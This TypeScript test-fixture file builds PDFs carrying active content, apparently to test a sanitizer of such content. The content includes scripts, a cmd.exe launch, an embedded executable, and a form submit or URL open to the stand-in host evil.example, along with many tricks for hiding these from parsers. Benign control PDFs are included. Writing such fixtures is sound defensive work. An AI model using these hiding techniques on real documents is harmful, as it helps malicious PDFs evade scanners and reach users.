import { deflateSync } from 'node:zlib'
import { packedObject, RawPdf } from './raw-pdf.ts'

/** Active content, as catalogue entries. */
export const ACTS: Readonly<Record<string, string>> = {
  'a script at opening': '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  'a named script': '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>',
  'a script at closing': '/AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >>',
  'a program to launch': '/OpenAction << /S /Launch /F (cmd.exe) >>',
  'a file inside':
    '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << >> >>] >> >>',
  'a form of XFA': '/AcroForm << /Fields [] /XFA [(template) (<xdp/>)] >>',
  'a form that is sent': '/OpenAction << /S /SubmitForm /F (https://evil.example) >>',
  'an address at opening': '/OpenAction << /S /URI /URI (https://evil.example) >>',
  'an address at closing': '/AA << /WC << /S /URI /URI (https://evil.example) >> >>',
}

const ADDRESS = '<< /S /URI /URI (https://evil.example) >>'

const withPage = (entries: string, more: string | null = null): Buffer => {
  const pdf = new RawPdf().page(entries).object(1, catalog('/Lang (fr)'))
  return (more === null ? pdf : pdf.object(6, more)).endPlain()
}
const withCatalog = (entries: string, ...six: string[]): Buffer => {
  const pdf = new RawPdf().page().object(1, catalog(entries))
  for (const body of six) pdf.object(6, body)
  return pdf.endPlain()
}
const note = (entries: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Border [0 0 0] ${entries} >>]`

/** Opens a URL without a press, from any dictionary. */
export const ADDRESSES: Readonly<Record<string, () => Buffer>> = {
  'when a page opens': () => withPage(`/AA << /O ${ADDRESS} >>`),
  'when a page closes': () => withPage(`/AA << /C ${ADDRESS} >>`),
  'when a page opens, said elsewhere': () => withPage('/AA 6 0 R', `<< /O ${ADDRESS} >>`),
  'when a page opens, by an action said elsewhere': () => withPage('/AA << /O 6 0 R >>', ADDRESS),
  'when a page opens, said twice': () => withPage(`/AA << /O ${ADDRESS} >> /AA << >>`),
  'when a page opens, named by numbers': () => withPage(`/#41A << /O ${ADDRESS} >>`),
  'when a note is pointed at': () => withPage(note(`/AA << /E ${ADDRESS} >>`)),
  'when a note comes to be seen': () => withPage(note(`/AA << /PV ${ADDRESS} >>`)),
  'when a field is left': () =>
    withCatalog('/AcroForm << /Fields [6 0 R] >>', `<< /FT /Tx /T (a) /AA << /Bl ${ADDRESS} >> >>`),
  'when the document is printed': () => withCatalog(`/AA << /WP ${ADDRESS} >>`),
  'when it opens': () => withCatalog(`/OpenAction ${ADDRESS}`),
  'when it opens, said elsewhere': () => withCatalog('/OpenAction 6 0 R', ADDRESS),
  'when it opens, in a version that is overwritten': () =>
    withCatalog('/OpenAction 6 0 R', ADDRESS, '<< /S /GoTo /D [3 0 R /Fit] >>'),
  'when it opens, said twice': () => withCatalog(`/OpenAction ${ADDRESS} /OpenAction [3 0 R /Fit]`),
  'when it opens, as two kinds of action': () =>
    withCatalog('/OpenAction << /S /URI /S /GoTo /URI (https://evil.example) /D [3 0 R /Fit] >>'),
  'when it opens, as two kinds of action around a text': () =>
    withCatalog('/OpenAction << /S /GoTo /D (>>) /S /URI /URI (https://evil.example) >>'),
  'when it opens, after a choice of the page': () =>
    withCatalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${ADDRESS} >>`),
  'when it opens, after a choice of the page that is said elsewhere': () =>
    withCatalog('/OpenAction 6 0 R', `<< /S /GoTo /D [3 0 R /Fit] /Next ${ADDRESS} >>`),
}

export const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`

/** A PDF whose catalogue is in an object stream with these entries. */
const packed = (entries: string, dict: (first: number) => string, isHexToo = false): Buffer => {
  const { first, data } = packedObject(1, catalog(entries))
  const pdf = new RawPdf().page()
  pdf.object(8, '1').object(9, String(first))
  pdf.stream(7, dict(first), isHexToo ? Buffer.from(`${data.toString('hex')}>`) : data)
  return pdf.lead(1, { within: 7, index: 0 }).end()
}

const FLATE = '/Filter /FlateDecode'

/** A harmless catalogue for parsers that scan, and another in stream data for viewers that follow the table. */
const inData = (hidden: string | Buffer, found: string): Buffer => {
  const pdf = new RawPdf().page().object(1, catalog(''))
  const bytes = Buffer.from(hidden)
  const at = pdf.stream(5, '/Type /XObject', bytes)
  return pdf.lead(1, { at: at + bytes.indexOf(found) }).end()
}

/** Hiding places: each makes a file from the entries of its catalogue. */
export const HIDINGS: Readonly<Record<string, (entries: string) => Buffer>> = {
  'in plain sight': entries => new RawPdf().page().object(1, catalog(entries)).endPlain(),
  'with the letters of its names as numbers': entries =>
    new RawPdf()
      .page()
      .object(
        1,
        catalog(entries.replace(/\/([A-Z])/g, (_, sign: string) => `/#${sign.charCodeAt(0).toString(16)}`)),
      )
      .endPlain(),
  'in packed objects': entries => packed(entries, first => `/Type /ObjStm /N 1 /First ${first} ${FLATE}`),
  'in packed objects without a type': entries => packed(entries, first => `/N 1 /First ${first} ${FLATE}`),
  'in packed objects of another type': entries =>
    packed(entries, first => `/Type /XObject /N 1 /First ${first} ${FLATE}`),
  'in packed objects whose type nothing defines': entries =>
    packed(entries, first => `/Type 77 0 R /N 1 /First ${first} ${FLATE}`),
  'in packed objects whose type is text': entries =>
    packed(entries, first => `/Type (ObjStm) /N 1 /First ${first} ${FLATE}`),
  'in packed objects whose beginning stands elsewhere': entries =>
    packed(entries, () => `/Type /ObjStm /N 1 /First 9 0 R ${FLATE}`),
  'in packed objects whose number stands elsewhere': entries =>
    packed(entries, first => `/N 8 0 R /First ${first} ${FLATE}`),
  'in packed objects with their own names as numbers': entries =>
    packed(entries, first => `/#4e 1 /Firs#74 ${first} ${FLATE}`),
  'in packed objects that are named twice': entries =>
    packed(entries, first => `/Type /ObjStm /N 1 /First ${first} ${FLATE} /Type /XObject`),
  'in packed objects under two filters': entries =>
    packed(
      entries,
      first => `/Type /ObjStm /N 1 /First ${first} /Filter [/ASCIIHexDecode /FlateDecode]`,
      true,
    ),
  'in packed objects in the data of a stream': entries => {
    const { first, data } = packedObject(1, catalog(entries))
    const head = `7 0 obj\n<< /N 1 /First ${first} ${FLATE} /Length ${data.length} >>\nstream\n`
    const hidden = Buffer.concat([Buffer.from(head), data, Buffer.from('\nendstream\nendobj\n')])
    const pdf = new RawPdf().page()
    const at = pdf.stream(5, '/Type /XObject', hidden)
    return pdf.lead(7, { at }).lead(1, { within: 7, index: 0 }).end()
  },
  'in the data of a stream': entries => inData(`q\n1 0 obj\n${catalog(entries)}\nendobj\nQ`, '1 0 obj'),
  'in the data of a stream, with remarks between': entries =>
    inData(`q\n1%a\n0%b\nobj\n${catalog(entries)}\nendobj\nQ`, '1%a'),
  'in the data of a stream, without a gap': entries =>
    inData(`q\n1 0obj\n${catalog(entries)}\nendobj\nQ`, '1 0obj'),
  'in a remark': entries => {
    const pdf = new RawPdf().page().object(1, catalog(''))
    const at = pdf.raw(`% 1 0 obj ${catalog(entries)} endobj\n`)
    return pdf.lead(1, { at: at + 2 }).end()
  },
  'in a trailer': entries => new RawPdf().page().endPlain(`<< /Size 91 /Root ${catalog(entries)} >>`),
  'in a trailer in the data of a stream': entries => {
    const pdf = new RawPdf().page().object(1, catalog(''))
    pdf.raw('5 0 obj\n<< /Length 9999 0 R >>\nstream\n')
    const at = pdf.table()
    pdf.raw(`trailer\n<< /Size 91 /Root ${catalog(entries)} >>\nendstream\nendobj\n`)
    return pdf.close(at)
  },
  'in a version that a later one overwrites': entries => {
    const pdf = new RawPdf().page().object(1, catalog(entries))
    const first = pdf.endPlain()
    return Buffer.concat([first, Buffer.from(`1 0 obj\n${catalog('')}\nendobj\n%%EOF\n`)])
  },
  'in a dictionary that says everything twice': entries =>
    packed(
      `${entries} /OpenAction [3 0 R /Fit] /Names << >> /AA << >> /AcroForm << /Fields [] >>`,
      first => `/Type /ObjStm /N 1 /First ${first} ${FLATE}`,
    ),
  'behind a length that is wrong': entries => {
    const pdf = new RawPdf().page().object(1, catalog(''))
    const hidden = `x\nendstream\nendobj\n1 0 obj\n${catalog(entries)}\nendobj\n6 0 obj\n<< >>\nstream\nx`
    const at = pdf.stream(5, '/Type /XObject', Buffer.from(hidden), String(hidden.length))
    return pdf.lead(1, { at: at + hidden.indexOf('1 0 obj') }).end()
  },
}

/** Valid output of PDF writers other than this project's two libraries. */
export const ORDINARY: Readonly<Record<string, () => Buffer>> = {
  'with a plain table': () => HIDINGS['in plain sight']?.('/Lang (fr)') ?? Buffer.alloc(0),
  'with packed objects and a table that is a stream': () =>
    HIDINGS['in packed objects']?.('/Lang (fr)') ?? Buffer.alloc(0),
  'with packed objects whose length stands elsewhere': () => {
    const { first, data } = packedObject(1, catalog('/Lang (fr)'))
    const pdf = new RawPdf().page()
    pdf.stream(7, `/Type /ObjStm /N 1 /First ${first} ${FLATE}`, data, '8 0 R')
    return pdf.object(8, String(data.length)).lead(1, { within: 7, index: 0 }).end()
  },
  'with lengths that stand elsewhere': () => {
    const pdf = new RawPdf().page().object(1, catalog('/PageMode /UseNone'))
    const data = deflateSync(Buffer.from('BT ET'))
    pdf.stream(5, FLATE, data, '6 0 R')
    return pdf.object(6, String(data.length)).endPlain()
  },
  'with a link to press': () => withPage(note(`/A ${ADDRESS}`)),
  'with a page chosen at opening': () => withCatalog('/OpenAction [3 0 R /Fit]'),
  'with a page chosen at opening by an action': () =>
    withCatalog('/OpenAction << /Type /Action /S /GoTo /D [3 0 R /XYZ null null 0] >>'),
  'with a page chosen at opening by a name': () => withCatalog('/OpenAction << /S /GoTo /D (page.1) >>'),
  'with a page chosen at opening, said elsewhere': () =>
    withCatalog('/OpenAction 6 0 R', '<< /S /GoTo /D [3 0 R /Fit] >>'),
  'with an empty list of what it does by itself': () => withPage('/AA << >>'),
  'with remarks of its writer': () => {
    const pdf = new RawPdf()
    pdf.raw('%\xe2\xe3\xcf\xd3\n%% Original object ID: 1 0\n')
    return pdf.page().object(1, catalog('/Lang (fr)')).endPlain()
  },
  'with a second version behind the first': () => {
    const first = new RawPdf().page().object(1, catalog('')).endPlain()
    const at = first.length
    const second = `1 0 obj\n${catalog('/Lang (fr)')}\nendobj\n`
    const table = `xref\n1 1\n${String(at).padStart(10, '0')} 00000 n \n`
    const start = at + second.length
    const trailer = `trailer\n<< /Size 91 /Root 1 0 R /Prev ${first.lastIndexOf('xref\n0 91')} >>\n`
    return Buffer.concat([first, Buffer.from(`${second}${table}${trailer}startxref\n${start}\n%%EOF\n`)])
  },
  'with text that speaks of objects and trailers': () => {
    const pdf = new RawPdf().page().object(1, catalog('/Lang (fr)'))
    const text = 'BT (2 caravanes, 1 trailer, 3 objets, obj 12) Tj ET'
    pdf.stream(5, '', Buffer.from(text))
    return pdf.endPlain()
  },
  'whose title has two brackets and a colour profile': () => {
    const pdf = new RawPdf().page().object(1, catalog('/Lang (fr)'))
    pdf.stream(5, `/N 3 /Alternate /DeviceRGB ${FLATE}`, deflateSync(Buffer.alloc(100)))
    return pdf
      .object(6, '<< /Title (Avis \\(copie\\)) /Producer (Scanner) >>')
      .endPlain('<< /Size 91 /Root 1 0 R /Info 6 0 R >>')
  },
}
